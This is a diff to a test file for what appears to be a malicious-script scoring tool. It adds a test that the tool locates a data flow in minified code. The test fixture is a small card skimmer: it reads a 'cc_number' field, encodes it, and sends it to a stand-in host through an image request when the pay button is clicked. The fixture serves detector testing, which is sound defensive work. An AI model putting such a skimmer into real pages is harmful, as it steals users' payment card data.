@@ -1,5 +1,6 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
+import { beautify } from './beautify.ts'
 import { MALICIOUS_BELOW, type ScriptVerdict, scoreScript } from './index.ts'
 import { MAX_SCORED_LENGTH, MAX_WHOLE_LENGTH } from './limits.ts'
 import { HONEST_CASES } from './honest-scripts.cases.ts'
@@ -206,6 +207,15 @@ test.each(DEAD_CODE)('%s: no single part is hostile', (_, pad) => {
   const { scores, reasons } = scoreScript(pad('document.title="x"'))
   expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
   expect(reasons.filter(({ kind }) => kind === 'rule' || kind === 'sign')).toEqual([])
+})
+
+test('a flow in minified code has its place in the beautified source', () => {
+  const minified = `${'var a=1;'.repeat(60)}function f(){var n=document.getElementById('cc_number').value;new Image().src='https://stat.example.net/i.gif?d='+btoa(n)}document.querySelector('#pay').onclick=f`
+  const place = 'on click at line 1, column 543 (line 63, column 7 of the beautified source)'
+  expect(beautify(minified)?.[62]).toContain('new Image().src')
+  expect(scoreScript(minified).reasons).toContainEqual(
+    expect.objectContaining({ kind: 'flow', description: expect.stringContaining(place) }),
+  )
 })
 
 test.each<[string, before: string, line: number, column: number]>([
